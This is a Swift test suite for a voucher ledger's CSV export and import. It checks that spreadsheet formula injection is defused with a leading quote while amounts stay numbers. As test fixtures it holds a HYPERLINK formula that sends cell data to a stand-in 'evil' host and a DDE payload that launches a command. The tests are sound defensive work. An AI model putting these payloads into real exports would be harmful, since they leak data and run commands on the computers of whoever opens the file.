import Foundation
import GoodwillCore
import Ledger
import Testing
@testable import Support

/// OWASP "CSV Injection": a cell that starts with = + - @, a tab or a carriage return is a live
/// formula when a spreadsheet opens the file. Text from outside (names, emails, experiences,
/// references, reasons, actors) is written with a leading ' in front of such a start; amounts,
/// dates, ids, codes and kinds are written as they are, whatever they hold.
@Suite struct FormulaGuardTests {
    static let hyperlink = #"=HYPERLINK("http://evil/?"&A1,"click")"#
    static let dde = "@SUM(1+1)*cmd|' /C calc'!A0"

    static func records(_ csv: String) throws -> [[String]] {
        try Data(csv.utf8).withUnsafeBytes { raw in
            var reader = CSVReader(bytes: raw)
            var out: [[String]] = []
            while let r = try reader.next() { out.append(r.fields) }
            return out
        }
    }

    /// Rows of a CSV as dictionaries by header name.
    static func table(_ csv: String) throws -> [[String: String]] {
        let all = try records(csv)
        guard let header = all.first else { return [] }
        return all.dropFirst().map { Dictionary(uniqueKeysWithValues: zip(header, $0).map { ($0, $1) }) }
    }

    @Test func exportedFreeText_thatStartsAFormula_isWrittenAsText_andAmountsStayNumbers() throws {
        let f = try SupportFixture(book: false, now: "2025-11-23T10:00:00Z")
        let v = try f.ledger.perform(.issue(IssueRequest(
            value: Money(minorUnits: 100_000, currency: .sek), validity: .months(12), timeZone: "Europe/Stockholm",
            holder: PersonInput(email: "anna@example.se", name: Self.hyperlink), kind: .experience, experience: Self.hyperlink)),
            actor: "-2+3").voucher
        let ref = VoucherReference.id(VoucherID(rawValue: v.id))
        try f.ledger.perform(.redeem(ref, amount: Money(minorUnits: 50_000, currency: .sek), reference: Self.dde), actor: "+till")
        try f.ledger.perform(.block(ref, reason: "-1+1 chargeback"), actor: "@support")
        // A tab or a carriage return cannot come in through the ledger (it trims text and refuses
        // control characters), but the writer decides by the column, not by how the value came in.
        for (n, start) in [(2, "char(9)"), (3, "char(13)")] {
            let other = try f.issue(100, holder: "h\(n)@example.se")
            _ = try f.ledger.db.run("UPDATE vouchers SET experience = \(start) || '=1+1' WHERE id = ?", [.text(other.id)])
        }

        var csv = ""
        try f.support.export(.entries, format: .csv) { csv += $0 }
        let entries = try Self.table(csv)
        let issued = try #require(entries.first { $0["kind"] == "issued" && $0["voucher_id"] == v.id })
        #expect(issued["actor"] == "'-2+3")
        #expect(issued["amount"] == "100000")
        let redeemed = try #require(entries.first { $0["kind"] == "redeemed" })
        #expect(redeemed["reference"] == "'" + Self.dde)
        #expect(redeemed["actor"] == "'+till")
        #expect(redeemed["amount"] == "-50000")   // a negative amount is a number, not a formula to defuse
        let blocked = try #require(entries.first { $0["kind"] == "blocked" })
        #expect(blocked["reason"] == "'-1+1 chargeback" && blocked["actor"] == "'@support")
        #expect(blocked["code"] == v.code && blocked["voucher_id"] == v.id && blocked["currency"] == "SEK")

        csv = ""
        try f.support.export(.vouchers, format: .csv) { csv += $0 }
        // The quote goes inside the CSV quoting the field needs for its own quotes and commas.
        #expect(csv.contains(#","'=HYPERLINK(""http://evil/?""&A1,""click"")","#), "\(csv)")
        let vouchers = try Self.table(csv)
        #expect(vouchers.map { $0["experience"] } == ["'" + Self.hyperlink, "'\t=1+1", "'\r=1+1"])
        #expect(vouchers.first?["balance"] == "50000" && vouchers.first?["value"] == "100000")

        // JSON lines are not for spreadsheets: written as stored.
        var lines: [String] = []
        try f.support.export(.vouchers, format: .jsonl) { lines.append($0) }
        let first = try JSONSerialization.jsonObject(with: Data(lines[0].utf8)) as? [String: Any]
        #expect(first?["experience"] as? String == Self.hyperlink)
        lines = []
        try f.support.export(.entries, format: .jsonl) { lines.append($0) }
        #expect(lines.contains { $0.contains("\"reference\":\"@SUM(1+1)*cmd|' /C calc'!A0\"") })
    }

    /// A finance report's free-text column (a rule's or an agent's name) is guarded; its amounts,
    /// negative ones included, stay numbers.
    @Test func reportCSV_guardsNames_notAmounts() throws {
        let minus = Money(minorUnits: -500, currency: .sek), zero = Money(minorUnits: 0, currency: .sek)
        let line = GoodwillLine(group: "agent", name: "-ops", currency: "SEK", extensions: 1, days: 30, overrides: 0,
                                valueKeptAlive: minus, laterRedeemed: zero)
        let goodwill = GoodwillReport(asOf: "2025-11-23T10:00:00Z", byRule: [], byAgent: [line], totals: [], overrides: 0, referred: 0, denied: 0)
        #expect(try Self.records(goodwill.table.csv) == [goodwill.table.header + ["as_of", "referred", "denied"],
                                                          ["agent", "'-ops", "SEK", "1", "30", "0", "-5.00", "0.00", "2025-11-23T10:00:00Z", "0", "0"]])
        let rec = ReconciliationReport(asOf: "2025-11-23T10:00:00Z", currencies: [ReconciliationLine(
            currency: "SEK", issued: zero, redeemed: zero, refunded: zero, voided: zero, adjusted: minus, liability: zero, breakage: zero,
            difference: minus)], balanced: false)
        #expect(rec.table.csv.hasSuffix("\r\nSEK,0.00,-5.00,0.00,0.00,0.00,0.00,0.00,-5.00,2025-11-23T10:00:00Z,false\r\n"))
    }

    /// The rejects file is for fixing and importing again: its names and emails are guarded, its
    /// amounts are not, and a row fixed in it comes in with the names it had in the first file.
    @Test func theRejectsFile_guardsTheTextItWritesBack_andImportsAsTheFirstFileWould() throws {
        let f = try SupportFixture(book: false, now: "2025-11-23T10:00:00Z")
        let path = f.folder.appendingPathComponent("book.csv").path
        try (ImportExportTests.header + """
            G-1,-500,0,SEK,2025-01-10,,-anna@example.se,"\(Self.hyperlink.replacingOccurrences(of: "\"", with: "\"\""))",,,\(Self.dde),
            G-2,500,500,SEK,2025-01-10,,,,,,,
            G-3,0,0,SEK,2025-01-10,,c@example.se,'=guarded before,,,  =x ,

            """).write(toFile: path, atomically: true, encoding: .utf8)
        let r = try f.support.importVouchers(file: path, skipInvalid: true, actor: "test")
        #expect(r.imported == 1 && r.rejected.map(\.line) == [2, 4])
        let rejects = SupportService.rejectsCSV(r.rejected, header: try Self.records(ImportExportTests.header)[0])
        let row = try #require(try Self.table(rejects).first)
        #expect(row["value"] == "-500")
        #expect(row["holder_email"] == "'-anna@example.se")
        #expect(row["holder_name"] == "'" + Self.hyperlink)
        #expect(row["experience"] == "'" + Self.dde)
        #expect(row["line"] == "2")
        // Written as the import read it, then guarded: a cell that came in guarded is not guarded
        // twice, and the spaces the import ignores are not kept.
        let other = try Self.table(rejects)[1]
        #expect(other["holder_name"] == "'=guarded before" && other["experience"] == "'=x" && other["value"] == "0")

        // Fixed by hand (the value), the line and reason columns taken out, and imported again.
        let fields = try Self.records(rejects)[1]
        var fixed = Array(fields.prefix(12))
        fixed[1] = "500"
        let again = f.folder.appendingPathComponent("fixed.csv").path
        try (ImportExportTests.header + CSV.line(fixed)).write(toFile: again, atomically: true, encoding: .utf8)
        let second = try f.support.importVouchers(file: again, actor: "test")
        #expect(second.imported == 1, "\(second.rejected)")
        let v = try f.ledger.voucherView(VoucherReference("G-1"))
        #expect(v.holder?.name == Self.hyperlink && v.holder?.email == "-anna@example.se" && v.experience == Self.dde)
    }

    /// `unguarded` undoes exactly what `guarded` did, for any text: text that already starts with a
    /// quote before a formula character gets one more, so the two cannot be confused.
    @Test func guarded_isUndoneExactly_byUnguarded() {
        for s in ["", "'", "''", "=1+1", "+46 70 123", "-500", "@home", "\t=x", "\r=x", "'=x", "''-x", "'t Hooft", "Åsa", "a=b", " =x", "'''@"] {
            let g = CSV.guarded(s)
            #expect(CSV.unguarded(g) == s, "\(s)")
            #expect(!CSV.formulaStarts.contains(g.utf8.first ?? 0), "\(s)")
        }
        #expect(CSV.guarded("=1+1") == "'=1+1" && CSV.guarded("'=x") == "''=x" && CSV.guarded("\r") == "'\r")
        #expect(CSV.guarded("'t Hooft") == "'t Hooft" && CSV.guarded("Åsa") == "Åsa" && CSV.guarded(" =x") == " =x")
        #expect(CSV.unguarded("'t Hooft") == "'t Hooft" && CSV.unguarded("'-x") == "-x" && CSV.unguarded("=x") == "=x")
    }

    /// In the import's free-text columns a cell guarded as Goodwill (or another OWASP-minded
    /// export) writes it is read as it was before; other leading quotes are part of the text.
    @Test func theImport_readsAGuardedCellAsItWasBefore_andKeepsOtherQuotes() throws {
        let f = try SupportFixture(book: false, now: "2025-11-23T10:00:00Z")
        let path = f.folder.appendingPathComponent("book.csv").path
        try (ImportExportTests.header + """
            Q-1,500,500,SEK,2025-01-10,,'-a@example.se,'=SUM(1),,,'@home massage,
            Q-2,500,500,SEK,2025-01-10,,b@example.se,''-x,,,  '+1 guest ,
            Q-3,500,500,SEK,2025-01-10,,c@example.se,'t Hooft,,,'Spa',
            '-Q4,500,500,SEK,2025-01-10,,,,,,,

            """).write(toFile: path, atomically: true, encoding: .utf8)
        let r = try f.support.importVouchers(file: path, actor: "test")
        #expect(r.imported == 4, "\(r.rejected)")
        let q1 = try f.ledger.voucherView(VoucherReference("Q-1"))
        #expect(q1.holder?.email == "-a@example.se" && q1.holder?.name == "=SUM(1)" && q1.experience == "@home massage")
        let q2 = try f.ledger.voucherView(VoucherReference("Q-2"))
        #expect(q2.holder?.name == "'-x" && q2.experience == "+1 guest")
        let q3 = try f.ledger.voucherView(VoucherReference("Q-3"))
        #expect(q3.holder?.name == "'t Hooft" && q3.experience == "'Spa'")
        // A code is not free text: its quote is part of it.
        #expect(try f.ledger.voucherView(VoucherReference("'-Q4")).code == "'-Q4")
    }
}
